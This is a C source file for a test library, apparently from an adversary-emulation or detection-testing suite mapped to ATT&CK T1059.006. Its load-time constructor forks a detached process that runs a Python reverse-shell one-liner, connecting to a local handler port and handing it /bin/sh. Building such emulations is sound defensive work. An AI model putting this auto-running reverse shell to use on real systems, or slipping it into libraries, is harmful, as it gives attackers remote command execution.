/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_revshell_python.so: the constructor starts a detached child
 * (fork, setsid) that execs python3 with a reverse shell one-liner: the
 * interpreter connects to the runner's shell handler, puts the socket on
 * its stdio and becomes /bin/sh. The library's own code only forks and
 * execs an interpreter; the connection is the interpreter's.
 * ATT&CK: T1059.006 Command and Scripting Interpreter: Python (over a
 * T1095 raw TCP channel).
 * Proof: NAME.ran from the constructor; NAME.done is written by the shell,
 * running the command the handler sent over the socket. */
#include "scn.h"

static const char one_liner[] =
	"import os,socket,sys;s=socket.socket();s.connect(('127.0.0.1',int(sys.argv[1])));"
	"[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execl('/bin/sh','sh')";

__attribute__((constructor)) static void revshell_python_init(void)
{
	char port[16];

	scn_mark("ran");
	snprintf(port, sizeof(port), "%d", scn_port("SCENARIO_SHELL_PORT"));
	if (fork() == 0) {
		setsid();
		execl("/usr/bin/python3", "python3", "-c", one_liner, port, (char *)NULL);
		_exit(127);
	}
}
